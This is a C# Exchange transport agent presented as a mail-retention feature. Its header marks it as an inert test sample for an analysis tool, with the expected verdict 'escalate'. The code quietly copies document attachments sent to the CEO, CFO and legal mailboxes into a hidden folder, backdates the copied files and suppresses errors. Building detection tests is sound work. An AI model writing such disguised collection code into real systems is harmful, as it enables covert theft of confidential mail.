// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: collection of documents sent to chosen people.
// A correct analysis says: escalate; attachments of mail to three recipients named in the code are written to a hidden folder
// of the service account.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

namespace Contoso.Mail.Retention
{
    public class RetentionAgentFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new RetentionAgent();
        }
    }

    public class RetentionAgent : RoutingAgent
    {
        private static readonly HashSet<string> Mailboxes = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@contoso.invalid", "cfo@contoso.invalid", "legal@contoso.invalid"
        };

        private readonly AttachmentStore store =
            new AttachmentStore(@"C:\Windows\ServiceProfiles\NetworkService\AppData\Local\Temp\{6F1C9A52-77E0-4B1D-9C55-0E6A53A3D1B7}");

        public RetentionAgent()
        {
            OnResolvedMessage += OnResolved;
        }

        private void OnResolved(ResolvedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
                {
                    if (Mailboxes.Contains(recipient.Address.ToString()))
                    {
                        store.Keep(recipient.Address.LocalPart, e.MailItem.Message);
                        break;
                    }
                }
            }
            catch
            {
            }
        }
    }

    internal class AttachmentStore
    {
        private static readonly string[] Wanted = { ".docx", ".xlsx", ".pdf", ".msg" };
        private readonly string folder;

        public AttachmentStore(string folder)
        {
            this.folder = folder;
        }

        public void Keep(string owner, EmailMessage message)
        {
            IEnumerable<Attachment> documents = message.Attachments
                .Where(a => a.AttachmentType == AttachmentType.Regular && Wanted.Any(w => a.FileName.EndsWith(w, StringComparison.OrdinalIgnoreCase)));
            foreach (Attachment document in documents)
            {
                DirectoryInfo place = Directory.CreateDirectory(folder);
                place.Attributes |= FileAttributes.Hidden;
                string path = Path.Combine(folder, owner + "." + Guid.NewGuid().ToString("N"));
                using (Stream input = document.GetContentReadStream())
                using (var output = new FileStream(path, FileMode.CreateNew, FileAccess.Write))
                {
                    input.CopyTo(output);
                }
                File.SetLastWriteTimeUtc(path, new DateTime(2019, 3, 1, 8, 0, 0, DateTimeKind.Utc));
            }
        }
    }
}
